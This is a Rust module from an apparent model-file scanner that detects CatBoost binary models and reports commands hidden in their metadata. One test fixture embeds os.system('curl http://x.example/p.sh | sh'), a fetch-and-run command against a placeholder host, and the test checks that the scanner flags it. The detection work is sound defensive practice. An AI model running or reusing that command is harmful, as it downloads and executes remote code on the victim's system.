//! CatBoost's binary models.
//!
//! Nothing in them runs; texts of their metadata that hold commands or code are reported.

use crate::fact::Facts;
use crate::format::{Claim, Format, Item, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "catboost",
    title: "CatBoost model",
    family: "catboost",
    wants,
    read,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    probe.starts(b"CBM1").then_some(Claim::Magic)
}

fn read(item: &Item<'_>, facts: &mut Facts) {
    search(item, facts);
}

#[cfg(test)]
pub(crate) mod tests {
    use crate::finding::Verdict;
    use crate::vet;

    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"CBM1\x10\0\0\0metadata\0".to_vec(),
            b"CBM1\x10\0\0\0os.system('curl http://x.example/p.sh | sh')\0".to_vec(),
        ]
    }

    #[test]
    fn commands_in_it_are_found() {
        let [good, bad] = &samples()[..] else { panic!() };
        assert_eq!(vet("m.cbm", good).verdict, Verdict::NothingFound);
        assert!(vet("m.cbm", bad).verdict.is_flagged());
    }
}
